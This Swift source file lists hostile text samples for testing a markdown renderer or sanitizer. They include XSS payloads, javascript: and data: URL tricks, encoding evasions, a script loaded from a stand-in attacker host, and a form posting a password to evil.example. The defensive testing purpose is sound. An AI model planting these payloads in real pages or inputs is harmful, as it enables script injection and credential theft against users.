/// Texts that try to become more than text.
enum HostileText {
    static let vectors: [String] = tags + handlers + schemes + encodings + nestings + fences + mentions

    private static let tags = [
        "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<script\n>alert(1)</script\n>", "<svg><script>alert(1)</script></svg>", "<iframe src=\"javascript:alert(1)\">",
        "<object data=\"data:text/html;base64,PHNjcmlwdD4=\">", "<embed src=x>", "<base href=\"//evil.example/\">",
        "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
        "<link rel=stylesheet href=//evil.example/a.css>",
        "<style>*{background:url(javascript:alert(1))}</style>", "<form action=//evil.example><input name=password>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<template><script>alert(1)</script></template>",
        "<!--><script>alert(1)</script>-->", "<![CDATA[<script>alert(1)</script>]]>", "<?php echo '<script>'; ?>",
        "<noscript><p title=\"</noscript><script>alert(1)</script>\">",
        "<textarea></textarea><script>alert(1)</script>",
        "<custom-element></custom-element>", "</p><script>alert(1)</script><p>", "<b>bold</b><u>under</u>",
    ]

    private static let handlers = [
        "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<body onload=alert(1)>",
        "<a onmouseover=alert(1)>x</a>",
        "<details open ontoggle=alert(1)>", "<img src=\"x\"onerror=\"alert(1)\">", "<img/src=x/onerror=alert(1)>",
        "[x](https://a.example/\"onmouseover=\"alert(1))", "[x](https://a.example 'onmouseover=alert(1)')",
        "![x](https://a.example/\"onerror=\"alert(1))", "https://a.example/\"onclick=alert(1)",
        "[x](<https://a.example/ \" onclick=alert(1) x=\">)", "[a]: https://a.example/\"onclick=\"alert(1)\n\n[a]",
        "www.a.example/\"><img src=x onerror=alert(1)>", "<https://a.example/\"onclick=\"alert(1)>",
    ]

    private static let schemes = [
        "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](  javascript:alert(1))",
        "[x](java\tscript:alert(1))",
        "[x](javascript&colon;alert(1))", "[x](&#106;avascript:alert(1))", "[x](\u{1}javascript:alert(1))",
        "[x](vbscript:msgbox(1))", "[x](data:text/html,<script>alert(1)</script>)",
        "[x](data:image/svg+xml;base64,PHN2Zz4=)",
        "[x](file:///etc/passwd)", "[x](blob:https://a.example/1)", "[x](//evil.example)", "[x](/api/v1/auth/logout/)",
        "[x](ws://a.example)", "[x](http:javascript:alert(1))", "[x](https:)", "[x](mailto:)",
        "![x](javascript:alert(1))",
        "<javascript:alert(1)>", "[a]: javascript:alert(1)\n\n[a]", "[x](feed:javascript:alert(1))",
        "[x](?next=//evil)",
    ]

    private static let encodings = [
        "\u{0}<script>alert(1)</script>", "[x](https://a.example/\u{0}javascript:alert(1))",
        "＜script＞alert(1)＜/script＞",
        "\u{FEFF}<script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)",
        "\\<script\\>alert(1)", "%3Cscript%3Ealert(1)", "[x](https://a.example/%22onclick=alert(1))",
        "[x](https://a.example/\u{202E}gnp.exe)", "[x](https://a.example/&quot;onclick=alert(1)&quot;)",
        "[x](https://a.example/&#34;&#62;&#60;script&#62;)", "\u{2028}<script>alert(1)</script>\u{2029}",
    ]

    private static let nestings = [
        "[![x](https://a.example/i.png)](javascript:alert(1))", "[<script>alert(1)</script>](https://a.example)",
        "[a [b](https://b.example) c](https://a.example)", "**<img src=x onerror=alert(1)>**",
        "> <script>alert(1)</script>",
        "- <script>alert(1)</script>\n  - <img src=x onerror=alert(1)>",
        "| <script> | b |\n| --- | --- |\n| <img onerror=x> | `<b>` |",
        "# <script>alert(1)</script>", "~~<svg onload=alert(1)>~~", "1. <iframe>\n2. [x](javascript:1)",
        "- [x] <script>1</script>",
        "a <b onclick='x'> b\n<script>\nalert(1)\n</script>\nc",
    ]

    private static let fences = [
        "```js\"onclick=\"alert(1)\nx\n```", "```<script>\nalert(1)\n```", "~~~ html' onmouseover='x\n<b>\n~~~",
        "`</code><script>alert(1)</script>`", "```\n</code></pre><script>alert(1)</script>\n```",
        "    <script>alert(1)</script>",
        "```aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\nx\n```", "```c++ onclick=x\nx\n```",
    ]

    private static let mentions = [
        "@alice\"onclick=\"alert(1)", "@alice<script>alert(1)</script>", "<b @alice>", "[@alice](https://a.example)",
        "[@alice](javascript:alert(1))", "`@alice`", "@<script>", "https://a.example/@alice",
    ]
}
